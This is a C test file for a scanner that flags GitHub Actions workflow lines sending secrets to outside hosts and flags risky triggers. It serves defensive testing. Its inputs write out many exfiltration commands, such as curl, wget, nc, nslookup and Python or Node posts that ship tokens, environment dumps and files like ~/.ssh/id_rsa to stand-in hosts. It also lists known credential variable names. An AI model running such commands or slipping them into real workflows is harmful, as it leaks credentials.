/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/evidence/content/marked.h"

#define WORKFLOW ".github/workflows/a.yml"

static void
sent_check (const char *text, const char *expected)
{
  assert_marked (hm_recognise_secrets, HM_MARK_SECRET_SENT, WORKFLOW, text, expected);
}

static void
test_expression (void)
{
  sent_check ("run: curl -d 'T=${{ secrets.T }}' https://a.example/x\n", "1: a.example\n");
  sent_check ("run: curl \"https://a.example/?t=${{ secrets['T'] }}\"\n", "1: a.example\n");
  sent_check ("run: wget --post-data=\"${{ toJSON(secrets) }}\" http://10.0.0.1:8080/\n",
              "1: 10.0.0.1\n");
  sent_check (
      "run: |\n  curl -X POST \\\n    --data \"${{ secrets.T }}\" \\\n    https://a.example\n",
      "2: a.example\n");
}

static void
test_variable (void)
{
  sent_check ("env:\n  K: ${{ secrets.T }}\nrun: curl -d \"$K\" https://a.example\n",
              "3: a.example\n");
  sent_check ("run: curl -d \"${K}\" https://a.example\nenv:\n  K: ${{ secrets.T }}\n",
              "1: a.example\n");
  sent_check ("run: printenv | base64 | curl -d @- https://a.example\n", "1: a.example\n");
  sent_check ("run: curl -d \"$(env)\" https://a.example\n", "1: a.example\n");
  sent_check ("run: echo \"${{ secrets.T }}\" | nc a.example 99\n", "1: a.example\n");
  sent_check ("run: nslookup $GITHUB_TOKEN.a.example\n", "1: $GITHUB_TOKEN.a.example\n");
}

/* Each variable and file that is known to hold one, with nothing else in the text that looks like a secret. */
static void
test_known_names (void)
{
  static const char *const names[] = { "GITHUB_TOKEN",
                                       "GH_TOKEN",
                                       "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
                                       "ACTIONS_RUNTIME_TOKEN",
                                       "CI_JOB_TOKEN",
                                       "NPM_TOKEN",
                                       "NODE_AUTH_TOKEN",
                                       "PYPI_TOKEN",
                                       "PYPI_API_TOKEN",
                                       "TWINE_PASSWORD",
                                       "AWS_SECRET_ACCESS_KEY",
                                       "AWS_SESSION_TOKEN",
                                       "CARGO_REGISTRY_TOKEN",
                                       "GEM_HOST_API_KEY",
                                       "DOCKER_PASSWORD",
                                       "DOCKERHUB_TOKEN" };
  static const char *const files[] = { "~/.npmrc", "~/.pypirc", "~/.netrc", "~/.ssh/id_rsa",
                                       "~/.aws/credentials" };

  for (gsize i = 0; i < G_N_ELEMENTS (names); i++) {
    g_autofree char *text = g_strdup_printf ("run: curl -d $%s https://a.example\n", names[i]);

    sent_check (text, "1: a.example\n");
  }
  for (gsize i = 0; i < G_N_ELEMENTS (files); i++) {
    g_autofree char *text = g_strdup_printf ("run: curl -d @%s https://a.example\n", files[i]);

    sent_check (text, "1: a.example\n");
  }
  sent_check ("run: env | curl -d @- https://a.example\n", "1: a.example\n");
  sent_check ("run: curl -d \"$(printenv | base64)\" https://a.example\n", "1: a.example\n");
  sent_check ("run: curl -d ${{ github.token }} https://a.example\n", "1: a.example\n");
}

static void
test_other_languages (void)
{
  sent_check (
      "run: python -c \"import requests;requests.post('https://a.example',data='${{ secrets.T }}')\"\n",
      "1: a.example\n");
  sent_check (
      "run: node -e \"fetch('https://a.example',{method:'POST',body:process.env.GITHUB_TOKEN})\"\n",
      "1: a.example\n");
}

static void
test_quoted (void)
{
  sent_check ("- run: \"curl -d ${{ secrets.T }} https://a.example\"\n", "1: a.example\n");
  sent_check ("- { name: x, run: 'curl -d ${{ secrets.T }} https://a.example' }\n",
              "1: a.example\n");
  sent_check ("  bash -c 'curl -d ${{ secrets.T }} https://a.example'\n", "1: a.example\n");
  sent_check ("run: \"sh -ec 'curl -d $GITHUB_TOKEN https://a.example'\"\n", "1: a.example\n");
  sent_check ("- run: >-\n    curl\n    -d ${{ secrets.T }}\n    https://a.example\n  x: y\n",
              "2: a.example\n");
}

/* Quotes hide nothing that is piped on. */
static void
test_quoted_source (void)
{
  sent_check ("run: bash -c 'echo ${{ secrets.T }}' | nc a.example 99\n", "1: a.example\n");
}

static void
test_address (void)
{
  sent_check ("run: curl a.example/x -d ${{ secrets.T }}\n", "1: a.example\n");
  sent_check ("run: curl -s 10.1.2.3:80 -d ${{ secrets.T }}\n", "1: 10.1.2.3\n");
  sent_check ("run: curl --url=https://a.example -d ${{ secrets.T }}\n", "1: a.example\n");
  sent_check ("run: |\n  H=https://a.example/x\n  curl $H -d ${{ secrets.T }}\n", "3: a.example\n");
  sent_check ("env:\n  H: 'https://a.example'\nrun: curl \"${H}/x\" -d ${{ secrets.T }}\n",
              "3: a.example\n");
  sent_check ("run: curl -d ${{ SECRETS.T }} https://a.example\n", "1: a.example\n");
  sent_check ("run: curl -d ${{ github.token }} https://a.example\n", "1: a.example\n");
  sent_check ("run: curl -b k=${{ secrets.T }} https://a.example\n", "1: a.example\n");
  /* The value of an option is no address, and a service is trusted however it is written. */
  sent_check ("run: curl -T a.tar.gz -d ${{ secrets.T }} $URL\n", "");
  sent_check ("run: curl api.github.com/x -d ${{ github.token }}\n", "");
}

static void
test_log (void)
{
  sent_check ("run: echo ${{ secrets.T }} | base64 -w0 | base64 -w0\n",
              "1: the log, encoded twice\n");
  sent_check ("run: echo ${{ secrets.T }} | base64 -w0 | base64 -w0 > f\n", "");
  sent_check ("run: echo ${{ secrets.T }} | base64\n", "");
}

/* What honest workflows do with a secret and a request on one line. */
static void
test_honest (void)
{
  sent_check ("run: curl -H \"Authorization: Bearer ${{ secrets.T }}\" https://a.example\n", "");
  sent_check ("run: curl -u \"me:${{ secrets.T }}\" -T f https://a.example\n", "");
  sent_check ("run: curl -d '{\"text\":\"done\"}' ${{ secrets.SLACK_WEBHOOK_URL }}\n", "");
  sent_check ("env:\n  HOOK: ${{ secrets.HOOK }}\nrun: curl -d done \"$HOOK\"\n", "");
  sent_check ("run: curl --form token=${{ secrets.C }} https://scan.coverity.com/builds\n", "");
  sent_check ("run: curl https://api.telegram.org/bot${{ secrets.T }}/sendMessage -d text=done\n",
              "");
  sent_check ("run: echo \"${{ secrets.K }}\" | base64 -d > key.json\n", "");
  sent_check (
      "env:\n  ACME_PW: ${{ secrets.P }}\nrun: curl --form \"p=$ACME_PW\" https://www.acme.evil.example/\n",
      "3: www.acme.evil.example\n");
  sent_check (
      "env:\n  ACME_PW: ${{ secrets.P }}\nrun: curl --form \"p=$ACME_PW\" https://www.acme.com/\n",
      "");
  sent_check ("run: curl -d \"${{ secrets.ACME_U }}&${{ secrets.T }}\" https://acme.com\n",
              "1: acme.com\n");
  sent_check ("# run: curl -d '${{ secrets.T }}' https://a.example\n", "");
}

/* A chat anybody can open takes nobody's secrets but its own. */
static void
test_messenger (void)
{
  sent_check ("run: curl -d '${{ secrets.T }}' https://discord.com/api/webhooks/1/x\n",
              "1: discord.com\n");
}

static void
test_trigger (void)
{
  static const char checkout[] =
      "on: pull_request_target\njobs:\n a:\n  steps:\n  - uses: actions/checkout@v4\n"
      "    with:\n      ref: ${{ github.event.pull_request.head.sha }}\n";
  static const char words[] = "on:\n  issue_comment:\nrun: echo ${{ github.event.comment.body }}\n";
  static const char setting[] =
      "on: pull_request_target\nenv:\n  T: ${{ github.event.pull_request.title }}\n";
  static const char harmless[] =
      "on: pull_request\nwith:\n  ref: ${{ github.event.pull_request.head.sha }}\n";

  assert_marked (hm_recognise_secrets, HM_MARK_DANGEROUS_TRIGGER, WORKFLOW, checkout,
                 "7: pull_request_target\n");
  assert_marked (hm_recognise_secrets, HM_MARK_DANGEROUS_TRIGGER, WORKFLOW, words,
                 "3: issue_comment\n");
  assert_marked (hm_recognise_secrets, HM_MARK_DANGEROUS_TRIGGER, WORKFLOW, setting, "");
  assert_marked (hm_recognise_secrets, HM_MARK_DANGEROUS_TRIGGER, WORKFLOW, harmless, "");
}

static void
test_hostile (void)
{
  static const char *const parts[] = {
    "curl $a ${{ secrets ", "secrets.", "| & ; )", "\"'`", "@@@@", "echo > > > ", "\\\n"
  };

  for (gsize i = 0; i < G_N_ELEMENTS (parts); i++) {
    g_autoptr (GString) text = g_string_new ("curl secrets. ");

    while (text->len < 128 * 1024)
      g_string_append (text, parts[i]);
    g_string_append_len (text, "\0\xff\xfe\0", 4);
    g_free (marked (hm_recognise_secrets, HM_MARK_SECRET_SENT, WORKFLOW, text->str, text->len));
  }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/secrets/expression", test_expression);
  g_test_add_func ("/secrets/variable", test_variable);
  g_test_add_func ("/secrets/known-names", test_known_names);
  g_test_add_func ("/secrets/other-languages", test_other_languages);
  g_test_add_func ("/secrets/log", test_log);
  g_test_add_func ("/secrets/quoted", test_quoted);
  g_test_add_func ("/secrets/quoted-source", test_quoted_source);
  g_test_add_func ("/secrets/address", test_address);
  g_test_add_func ("/secrets/honest", test_honest);
  g_test_add_func ("/secrets/messenger", test_messenger);
  g_test_add_func ("/secrets/trigger", test_trigger);
  g_test_add_func ("/secrets/hostile", test_hostile);
  return g_test_run ();
}
